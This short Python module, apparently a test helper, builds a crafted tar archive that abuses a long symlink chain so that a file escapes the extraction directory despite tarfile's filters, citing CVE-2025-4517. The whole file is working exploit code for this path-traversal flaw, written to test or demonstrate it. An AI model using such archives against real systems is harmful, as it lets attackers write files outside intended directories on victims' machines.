"""Archives that want out of the directory they are unpacked in."""

from __future__ import annotations

import io
import tarfile


def chain_of_links(below: str, up: str, name: str) -> bytes:
    """A tar with a chain of links that is too long to be followed (CVE-2025-4517).

    Its link `escape` goes along the chain and then `up`, and the file `name` lies below that link;
    tarfile's own filters let it be written outside.

    Args:
        below: the directory of the archive that all of it is in, with a slash; or nothing.
        up: `..`, `../..`, ...
    """
    component, path, body = "d" * 247, "", io.BytesIO()
    with tarfile.open(fileobj=body, mode="w") as archive:

        def add(member: str, kind: bytes, link: str = "") -> None:
            info = tarfile.TarInfo(below + member)
            info.type, info.linkname = kind, link
            archive.addfile(info)

        for step in "abcdefghijklmnop":
            add(f"{path}{component}", tarfile.DIRTYPE)
            add(f"{path}{step}", tarfile.SYMTYPE, component)
            path = f"{path}{component}/"
        chain = "/".join("abcdefghijklmnop") + "/" + "l" * 254
        add(chain, tarfile.SYMTYPE, "../" * 16)
        add("escape", tarfile.SYMTYPE, f"{chain}/{up}")
        add(f"escape/{name}", tarfile.REGTYPE)
    return body.getvalue()
